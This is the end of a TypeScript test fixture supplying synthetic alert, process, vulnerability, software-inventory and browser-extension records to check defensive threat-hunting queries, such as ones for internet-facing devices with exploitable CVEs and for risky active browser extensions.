  { hunt: "alerted_accounts_across_devices", column: "AccountSid", found: ["S-1-5-21-9"], values: { min_devices: 2 }, events: { AlertInfo: ["1", "2", "3"].map((AlertId) => ({ AlertId, Title: "t" })), AlertEvidence: [evidence("1", "a"), evidence("2", "b"), evidence("3", "c", { AccountSid: "S-1-5-21-8" }), evidence("1", "a", { AccountSid: "S-1-5-18" }), evidence("2", "b", { AccountSid: "S-1-5-18" })] } },
  { hunt: "alerted_files_elsewhere", column: "SHA256", found: ["ff"], events: { AlertEvidence: [evidence("1", "a", { EntityType: "File", SHA256: "ff" }), evidence("1", "a", { EntityType: "File", SHA256: "ee" })], DeviceProcessEvents: [run("b", "x.exe", "x", { SHA256: "ff" }), run("a", "y.exe", "y", { SHA256: "ee" }), run("b", "z.exe", "z", { SHA256: "dd" })] } },
  { hunt: "exposed_vulnerable_devices", column: "CveId", found: ["CVE-2026-0001"], events: {
    DeviceInfo: [{ ...on("web"), IsInternetFacing: true }, { ...on("inside"), IsInternetFacing: false }], DeviceTvmSoftwareVulnerabilitiesKB: [{ CveId: "CVE-2026-0001", CvssScore: 9.8, IsExploitAvailable: true }, { CveId: "CVE-2026-0002", CvssScore: 9.8, IsExploitAvailable: false }],
    DeviceTvmSoftwareVulnerabilities: [{ ...on("web"), CveId: "CVE-2026-0001" }, { ...on("web"), CveId: "CVE-2026-0002" }, { ...on("inside"), CveId: "CVE-2026-0001" }] } },
  { hunt: "unsupported_software", column: "SoftwareName", found: ["old"], events: { DeviceInfo: [on("used")], DeviceTvmSoftwareInventory: [{ ...on("used"), SoftwareName: "old", EndOfSupportStatus: "EOS Version", EndOfSupportDate: "2020-01-01T00:00:00Z" }, { ...on("used"), SoftwareName: "new" }, { ...on("gone"), SoftwareName: "old", EndOfSupportStatus: "EOS Version", EndOfSupportDate: "2020-01-01T00:00:00Z" }] } },
  { hunt: "risky_browser_extensions", column: "ExtensionId", events: { DeviceInfo: [on("surfer")], DeviceTvmBrowserExtensions: [{ ...on("surfer"), ExtensionId: "hit", ExtensionRisk: "High", IsActivated: "true" }, { ...on("surfer"), ExtensionId: "off", ExtensionRisk: "High", IsActivated: "false" }, { ...on("surfer"), ExtensionId: "low", ExtensionRisk: "Low", IsActivated: "true" }] } },
];

/** One case for each hunt of the folders `*-hunting`. */
export const huntingCases: readonly HuntingCase[] = [...endpointCases, ...identityCases, ...mailCases, ...cloudCases, ...exposureCases];
